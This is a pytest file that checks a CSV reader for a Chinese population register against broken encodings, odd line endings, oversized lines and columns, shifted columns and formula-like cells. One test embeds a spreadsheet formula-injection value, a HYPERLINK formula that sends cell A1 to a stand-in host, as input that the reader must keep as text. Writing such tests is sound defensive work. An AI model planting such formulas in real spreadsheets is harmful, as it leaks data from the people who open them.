"""Text that is not quite text: broken bytes, zero bytes, odd line ends, absurd lines. Rows suffer, files seldom do."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from expectations import text_files
from expectations.reading import read
from models import contract
from models.contract import vocabulary
from models.errors import FileReturned
from tests.expectations.a_file import POPULATION, a_number, a_person, csv_file, people, population_file

PEOPLE = contract.for_feed("population")


def with_broken_bytes(path: Path, encoding: str, rows: int = 40) -> Path:
    """The third person's address has a byte that means nothing in the encoding."""
    csv_file(path, [POPULATION, *people(rows)], encoding=encoding)
    lines = path.read_bytes().split(b"\r\n")
    lines[3] = lines[3].replace("一村".encode(encoding), b"\xff\xff" if encoding == "gb18030" else b"\xe4\xb8")
    path.write_bytes(b"\r\n".join(lines))
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_a_few_broken_bytes_make_their_row_doubtful_and_no_other(normalise: Any, tmp_path: Path, encoding: str) -> None:
    path = with_broken_bytes(tmp_path / "a.csv", encoding)
    found = read(path, PEOPLE)
    assert (found.encoding, found.remarks) == (encoding, {"odd_bytes": 1})
    accounts, accepted, quarantined = normalise(path)
    assert [(row["row_number"], row["reason"]) for row in quarantined] == [(4, "odd_bytes")]
    assert len(accepted) == 39
    assert accounts.rows == 40


def test_too_many_broken_rows_return_the_file_without_quoting_it(tmp_path: Path) -> None:
    path = population_file(tmp_path / "a.csv", people(300))
    content = path.read_bytes().split(b"\r\n")
    broken = [line.replace("凤麓".encode(), b"\xff\xfe") if number % 10 == 0 else line for number, line in enumerate(content)]
    path.write_bytes(b"\r\n".join(broken))
    with pytest.raises(FileReturned, match="300 行中有 30 行含有无法识别的字符") as refusal:
        read(path, PEOPLE)
    assert "王" not in str(refusal.value)


def test_a_million_lines_that_fit_no_column_return_the_file_before_anything_is_made_of_them(tmp_path: Path) -> None:
    path = population_file(tmp_path / "a.csv", people(900) * 7)
    with path.open("ab") as file:
        file.write('"王某,凤麓\r\n'.encode() + b"a,b\r\n" * vocabulary()["reading"]["most_rows_of_other_width"])
    with pytest.raises(FileReturned, match="无法按列拆分") as refusal:
        read(path, PEOPLE)
    assert "王" not in str(refusal.value)


def test_a_file_whose_encoding_changes_midway_is_returned(tmp_path: Path) -> None:
    lines = [",".join(row) for row in [POPULATION, *people(60)]]
    content = "\r\n".join(lines[:40]).encode("utf-8") + b"\r\n" + "\r\n".join(lines[40:]).encode("gb18030")
    (tmp_path / "a.csv").write_bytes(content)
    with pytest.raises(FileReturned, match="前后编码不一致"):
        read(tmp_path / "a.csv", PEOPLE)


def test_zero_bytes_are_taken_out_and_counted(tmp_path: Path) -> None:
    path = population_file(tmp_path / "a.csv", people(3))
    path.write_bytes(path.read_bytes().replace("王三".encode(), "王三\0\0".encode()))
    found = read(path, PEOPLE)
    assert found.table["name"].to_pylist() == ["王二", "王三", "王四"]
    assert found.remarks == {"nul_bytes": 2}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_lines_may_end_in_any_way(tmp_path: Path, encoding: str, end: str) -> None:
    (tmp_path / "a.csv").write_bytes("".join(",".join(row) + end for row in [["户籍人口"], POPULATION, *people(3)]).encode(encoding))
    found = read(tmp_path / "a.csv", PEOPLE)
    assert found.table["name"].to_pylist() == ["王二", "王三", "王四"]
    assert found.table["row_number"].to_pylist() == [3, 4, 5]


def test_mixed_line_ends_lose_no_row(tmp_path: Path) -> None:
    ends = ["\r\n", "\n", "\r", "\r\n", "\n"]
    lines = [",".join(row) for row in [POPULATION, *people(4)]]
    (tmp_path / "a.csv").write_bytes("".join(line + end for line, end in zip(lines, ends, strict=True)).encode())
    assert read(tmp_path / "a.csv", PEOPLE).table["name"].to_pylist() == ["王二", "王三", "王四", "王五"]


def test_rows_keep_their_place_over_many_blocks(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(text_files, "BLOCK_BYTES", 700)
    rows = [a_person(serial) if serial % 7 else a_person(serial)[:3] for serial in range(1, 60)]
    for encoding in ("utf-8", "gb18030", "utf-16"):
        found = read(csv_file(tmp_path / "a.csv", [["标题"], POPULATION, *rows], encoding=encoding), PEOPLE)
        assert found.table["row_number"].to_pylist() == list(range(3, 62))
        assert found.table["id_number"].to_pylist() == [row[0] for row in rows]


def test_a_quoted_line_end_on_the_edge_of_a_block_splits_no_row(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    rows = [a_person(serial, 住址='"一村\n二组"') for serial in range(1, 40)]
    path = csv_file(tmp_path / "a.csv", [POPULATION, *rows])
    for block_bytes in range(400, 480, 7):
        monkeypatch.setattr(text_files, "BLOCK_BYTES", block_bytes)
        found = read(path, PEOPLE)
        assert found.table["id_number"].to_pylist() == [row[0] for row in rows]
        assert set(found.table["address"].to_pylist()) == {"一村\n二组"}


def test_a_line_without_an_end_is_returned(tmp_path: Path) -> None:
    path = population_file(tmp_path / "a.csv", people(3))
    with path.open("ab") as file:
        file.write(b"x" * 20_000_000)
    with pytest.raises(FileReturned, match="一行过长"):
        read(path, PEOPLE)


def test_a_hundred_thousand_columns_are_returned(tmp_path: Path) -> None:
    path = csv_file(tmp_path / "a.csv", [[*POPULATION, *[f"列{place}" for place in range(100_000)]], *people(3)])
    with pytest.raises(FileReturned, match="列数超过"):
        read(path, PEOPLE)


def test_one_row_of_a_hundred_thousand_cells_is_one_doubtful_row(normalise: Any, tmp_path: Path) -> None:
    rows = [*people(3), [*a_person(4), *["x"] * 100_000], a_person(5)]
    _, accepted, quarantined = normalise(population_file(tmp_path / "a.csv", rows))
    assert len(accepted) == 4
    assert [(row["row_number"], row["reason"]) for row in quarantined] == [(5, "shifted_columns")]


def test_cells_that_look_like_formulas_stay_text(normalise: Any, tmp_path: Path) -> None:
    # domain.md 46: escaped on the way out, never here.
    address = "=HYPERLINK(\"http://example.invalid\"&A1)"
    rows = [a_person(1, 住址=address, 姓名="=1+1"), a_person(2, 身份证号="@SUM(A1)", 住址="-2+3")]
    _, accepted, quarantined = normalise(csv_file(tmp_path / "a.csv", [POPULATION, *rows], separator="\t"))
    assert (accepted[0]["address"], accepted[0]["name"]) == (address, "=1+1")
    assert (quarantined[0]["id_number"], quarantined[0]["address"]) == ("@SUM(A1)", "-2+3")


def test_columns_that_shift_midway_are_told_from_wrong_numbers(normalise: Any, tmp_path: Path) -> None:
    headers = ["序号", *POPULATION]
    rows = [[str(serial), *a_person(serial)] for serial in range(1, 6)]
    shifted = [["甲", str(serial), *a_person(serial)[:-1]] for serial in range(6, 9)]
    accounts, accepted, quarantined = normalise(csv_file(tmp_path / "a.csv", [headers, *rows, *shifted]))
    assert [row["reason"] for row in quarantined] == ["shifted_columns"] * 3
    assert len(accepted) == 5
    assert accounts.faulty["shifted_columns"] == 3


def test_name_and_number_that_changed_places_have_not_shifted(normalise: Any, tmp_path: Path) -> None:
    rows = [[row[1], row[0], *row[2:]] for row in people(3)]
    accounts, _, _ = normalise(csv_file(tmp_path / "a.csv", [POPULATION, *rows]))
    assert (accounts.faulty["shifted_columns"], accounts.faulty["swapped_name_and_id"]) == (0, 3)


def test_a_failed_formula_in_any_kept_cell_makes_the_row_doubtful(normalise: Any, tmp_path: Path) -> None:
    rows = [a_person(1, 住址="#N/A"), a_person(2, 乡镇="#REF!"), a_person(3, 姓名="#N/A"), a_person(4)]
    _, accepted, quarantined = normalise(population_file(tmp_path / "a.csv", rows))
    assert [row["reason"] for row in quarantined] == ["failed_formula", "failed_formula", "name_unreadable"]
    assert [row["id_number"] for row in accepted] == [a_number(4)]
